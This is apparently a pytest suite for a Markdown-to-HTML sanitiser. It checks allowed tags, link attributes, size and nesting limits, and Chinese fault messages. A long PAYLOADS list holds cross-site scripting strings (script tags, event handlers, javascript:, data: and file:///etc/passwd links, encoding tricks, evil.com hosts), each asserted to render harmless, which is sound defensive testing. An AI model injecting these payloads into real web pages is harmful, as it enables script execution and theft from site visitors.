"""The permitted Markdown: what texts become, what is refused, and that nothing else ever comes out."""

from __future__ import annotations

import itertools
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml

from caselib.prose import (
    MAX_BLOCKS,
    MAX_BRACKETS,
    MAX_CHARACTERS,
    MAX_MARKS,
    Prose,
    prose_faults,
)

GOLDEN: list[dict[str, Any]] = yaml.safe_load(
    (Path(__file__).parent / "golden" / "prose.yaml").read_text("utf-8")
)

PERMITTED = {"p", "em", "strong", "a", "ul", "ol", "li", "blockquote", "code", "h4", "h5", "h6"}
EXTERNAL = "nofollow noopener noreferrer"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.com></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><math><mtext></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    '"><script>alert(1)</script>',
    "'\" onmouseover=alert(1) x='",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<form action=//evil.com><button>x",
    "<style>*{background:url(//evil.com)}</style>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<script>alert(1)</script>-->",
    "<!-- > <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<p title='</p><script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\\script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.com)",
    "[x](/\\evil.com)",
    "[x](\\\\evil.com)",
    "[x](https:evil.com)",
    "[x](https:///evil.com)",
    "[x](https://good.cn@evil.com)",
    "[x](https://[bad)",
    "[x](ftp://evil.com)",
    '[x](x.html"onmouseover=alert(1))',
    '[x](https://a.cn/"onmouseover=alert(1))',
    "[x](https://a.cn/'><script>alert(1)</script>)",
    "[<img src=x onerror=alert(1)>](https://a.cn)",
    "[[x](javascript:alert(1))](https://a.cn)",
    "[a]: javascript:alert(1)\n\n[a] [x][a]",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](a.png)',
    "<javascript:alert(1)>",
    "<mailto:x@y.cn>",
    "**<script>**alert(1)**</script>**",
    "`<script>alert(1)</script>`",
    "``` \n<script>alert(1)</script>\n```",
    "#### <script>alert(1)</script>",
    "- <script>\n  alert(1)\n- </script>",
    "> <iframe>",
    "    <script>alert(1)</script>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
    "\ufdd1script\ufdd1 \ufdd0lt;",
    "\x00<scr\x00ipt>",
    "{: onclick=alert(1) } *x*{: onclick=alert(1) }",
    "[TOC] {{ config }} {% raw %} ${x}",
    "\ud800*x*",
]


class Elements(HTMLParser):
    """Every element with its attributes, as a parser sees them; comments and declarations too."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment", {}))

    def handle_decl(self, decl: str) -> None:
        self.found.append(("declaration", {}))

    def unknown_decl(self, data: str) -> None:
        self.found.append(("declaration", {}))

    def handle_pi(self, data: str) -> None:
        self.found.append(("instruction", {}))


def assert_harmless(html: str) -> None:
    for name, attributes in Elements(html).found:
        assert name in PERMITTED, html
        allowed = {"a": {"href", "rel"}, "ol": {"start"}}.get(name, set())
        assert set(attributes) <= allowed, html
        address = attributes.get("href") or ""
        if address.startswith(("http://", "https://")):
            assert attributes["rel"] == EXTERNAL, html
            assert "evil.com" not in address, html
        elif address:
            assert address.startswith("mailto:") or ":" not in address, html
            assert address[0] not in "/\\", html


@pytest.fixture(scope="module")
def prose() -> Prose:
    return Prose()


@pytest.mark.parametrize("case", GOLDEN, ids=[case["name"] for case in GOLDEN])
def test_golden(prose: Prose, case: dict[str, Any]) -> None:
    assert prose.html(case["in"]) == case["html"]
    assert prose.text(case["in"]) == case["text"]
    assert [f"{f.line}: {f.message}" for f in prose_faults(case["in"])] == case.get("faults", [])
    assert_harmless(case["html"])


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "around", ["{}", "{} *x*", "- {}\n- x", "> {}", "[y]({})", "[{}](https://a.cn)", "`{}", "**{}**"]
)
def test_payloads_come_out_harmless(prose: Prose, payload: str, around: str) -> None:
    text = around.replace("{}", payload)
    assert_harmless(prose.html(text))
    prose.text(text)
    prose_faults(text)


def test_pieces_of_payloads_in_any_order_come_out_harmless(prose: Prose) -> None:
    pieces = ["<script", ">", "[x](", "javascript:", ")", "`", "**", '"', "\n- ", "&#x3c;", "<a href="]
    for four in itertools.permutations(pieces, 4):
        assert_harmless(prose.html("".join(four)))


@pytest.mark.parametrize(
    "text",
    [
        "互联网企业",
        "一行\n两行 AT&T <5人\n\n第二段",
        "one\ntwo “x” y",
        "  首行\n 次行  \n \n末段",
        "",
        " \n\n\u3000",
        "3.5亿元",
        "-5%",
        "2019.\n#话题",
    ],
)
def test_the_short_way_for_plain_text_gives_what_markdown_gives(prose: Prose, text: str) -> None:
    through_markdown = prose.html(f"{text}\n\n`x`").removesuffix("<p><code>x</code></p>").rstrip("\n")
    assert prose.html(text) == through_markdown


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("甲" * (MAX_CHARACTERS + 1), "这段文字有 20001 个字符，超过 20000 个"),
        ("[" * (MAX_BRACKETS + 1), "这段文字有 201 个“[”，超过 200 个"),
        ("*_`\\" * (MAX_MARKS // 4) + "*", "这段文字有 401 个“*”“_”“`”“\\”，超过 400 个"),
        ("- 甲\n" * (MAX_BLOCKS + 1), "这段文字有 401 个段落和列表项，超过 400 个"),
        ("\n".join("  " * level + "- 甲" for level in range(100)), "列表套了 4 层，最多 3 层"),
        (">" * 5000 + "甲", "引用和列表共套了 5000 层，最多 6 层"),
        ("> > > > - 甲\n> > > >   - 乙\n> > > >     - 丙", "引用和列表共套了 7 层，最多 6 层"),
    ],
    ids=["characters", "brackets", "marks", "blocks", "lists", "quotes", "both"],
)
def test_a_text_beyond_a_bound_is_one_fault_and_plain_paragraphs(
    prose: Prose, text: str, message: str
) -> None:
    assert [fault.message for fault in prose_faults(text)] == [message]
    assert {name for name, _ in Elements(prose.html(text)).found} == {"p"}


@pytest.mark.parametrize(
    "text",
    [
        "甲" * MAX_CHARACTERS,
        "[" * MAX_BRACKETS,
        "\\*" * (MAX_MARKS // 2),
        "- 甲\n" * MAX_BLOCKS,
        ">>>>>> 甲",
        "- 甲\n  - 乙\n    - 丙",
    ],
    ids=["characters", "brackets", "marks", "blocks", "quotes", "lists"],
)
def test_a_text_at_a_bound_is_no_fault(text: str) -> None:
    assert prose_faults(text) == ()


def test_a_fault_names_its_line_and_a_remedy() -> None:
    text = "第一行\n\n见[官网](www.a.cn/x y)和[坏](javascript:x)\n- <u>甲</u>"
    found = prose_faults(text)
    assert [(fault.line, fault.message.split("”")[0]) for fault in found] == [(2, "链接“坏"), (3, "“<u>")]
    assert all(fault.remedy for fault in found)


def test_one_text_leaves_no_trace_in_the_next(prose: Prose) -> None:
    before = prose.html("*甲* `乙`")
    prose.html("[z]: https://a.cn\n\n`<b>` **x**")
    assert prose.html("*甲* `乙`") == before
    assert prose.html("[z] *x*") == "<p>[z] <em>x</em></p>"
